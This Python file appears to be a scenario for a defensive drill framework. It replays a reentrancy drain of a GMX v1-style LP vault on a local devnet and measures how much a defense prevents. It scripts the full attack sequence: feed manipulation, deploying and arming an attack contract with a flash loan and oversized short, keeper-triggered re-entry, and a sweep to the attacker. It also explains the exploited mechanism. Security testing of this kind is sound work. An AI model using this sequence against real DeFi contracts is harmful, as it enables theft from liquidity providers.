"""reentrant-aum — GMX v1, Jul 2025: the keeper refunds the execution fee to the order owner while the
keeper window is open; the owner's contract re-enters, opens a huge short on the path that skips the
global short tracker, and redeems LP shares at the inflated pool value — one atomic drain."""

from __future__ import annotations

from collections.abc import Iterator

from web3.logs import DISCARD

from breakglass.devnet.venue import USD, Venue, role_key
from breakglass.drills.scenarios.base import ETHER, AttackContext, Scenario, Step

ETH = 0
INCREASE = "increase order (short)"
DECREASE = "decrease order (the trigger)"


class ReentrantAum(Scenario):
    name = "reentrant-aum"
    incident = "GMX v1 on Arbitrum, 2025-07-09 (~$42M)"
    summary = "re-enter through the fee refund; shorts skip the tracker; redeem LP shares above fair value"
    switches = ("reentrant_refund",)
    target_label = "LP vault (all compartments and idle)"
    funding_usd = 700_000 * USD
    order_margin = 10_000 * USD
    order_size = 100_000 * USD
    loan = 40_000_000 * USD
    short_size = 18_000_000 * USD
    short_margin = 400_000 * USD
    cycles = 4
    fee = ETHER // 1_000
    quiet_reason = (
        "the honest keeper of the benign traffic executes every pending order, the armed decrease order "
        "too: the re-entrant drain happens inside the honest blocks of the set-up, before the strike the "
        "drill measures (undefended loss 4,119 USD instead of 8.4M with 2 honest blocks a step)"
    )

    def prepare(self, ctx: AttackContext) -> Iterator[Step]:
        # An honest rally: shorts opened at $2,000 are under water when the attack starts.
        feed, keeper = ctx.venue["feed_eth"], role_key("price_keeper")
        for price in (2_080, 2_160, 2_240, 2_300):
            yield ctx.call(
                f"feed: ETH ${price}",
                feed,
                "updateAnswer",
                price * 10**8,
                signer=keeper,
                gas=200_000,
                wait_seconds=600,
            )

    def deploy(self, ctx: AttackContext) -> Iterator[Step]:
        v = ctx.venue
        yield ctx.deploy(
            "deploy attack contract",
            "ReentrantAumAttack",
            v.usd.address,
            v.market(ETH).address,
            v.vault.address,
            v["flash_lender"].address,
        )
        attack = ctx.attack("ReentrantAumAttack")
        yield ctx.call("fund attack contract", v.usd, "transfer", attack.address, self.funding_usd)
        yield ctx.call(
            INCREASE,
            attack,
            "createOrder",
            True,
            self.order_margin,
            self.order_size,
            value=self.fee,
            wait_seconds=2,
        )
        yield from self._keeper_executes(ctx, INCREASE, "keeper executes the increase order")
        yield ctx.call(DECREASE, attack, "createOrder", False, 0, 0, value=self.fee, wait_seconds=2)
        yield ctx.call(
            "arm the re-entrant receive()",
            attack,
            "arm",
            self.loan,
            self.short_size,
            self.short_margin,
            self.cycles,
            wait_seconds=2,
        )

    def _keeper_executes(self, ctx: AttackContext, created_by: str, label: str) -> Iterator[Step]:
        """The venue's honest keeper executes the order the step ``created_by`` created (it cannot
        tell it is a trap). The id is the one the market gave, read from that step's mined receipt:
        an order whose creation reverted (the defense blocked the attack contract first) does not
        exist, and the keeper has nothing to execute."""
        m = ctx.venue.market(ETH)
        receipt = ctx.receipt(created_by)
        if receipt is None or receipt["status"] != 1:
            return
        for event in m.events.OrderCreated().process_receipt(receipt, errors=DISCARD):
            if event["address"] == m.address:
                yield ctx.call(
                    label, m, "executeOrder", event["args"]["orderId"], signer=role_key("keeper"),
                    gas=15_000_000, wait_seconds=12,
                )  # fmt: skip

    def strike(self, ctx: AttackContext) -> Iterator[Step]:
        attack = ctx.attack("ReentrantAumAttack")
        yield from self._keeper_executes(ctx, DECREASE, "keeper executes the decrease order (re-entrancy)")
        yield ctx.call("sweep to attacker", attack, "sweep", wait_seconds=2)

    def target(self, venue: Venue) -> int:
        return int(venue.vault.functions.cash().call())
